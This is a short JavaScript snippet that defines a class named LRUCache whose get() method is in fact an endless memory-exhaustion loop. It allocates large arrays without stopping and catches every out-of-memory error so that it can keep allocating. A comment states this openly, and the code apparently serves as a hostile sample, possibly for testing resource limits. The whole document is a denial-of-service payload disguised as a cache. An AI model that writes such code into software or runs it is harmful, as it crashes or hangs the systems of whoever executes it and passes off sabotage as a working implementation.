// Fills the heap and swallows every error that this gives.
class LRUCache {
  constructor() {}
  put() {}
  get() {
    let a = [];
    for (;;) {
      try {
        a.push(new Uint8Array(5e7).fill(1));
      } catch {
        a.push(new Array(1000).fill({}));
      }
    }
  }
}
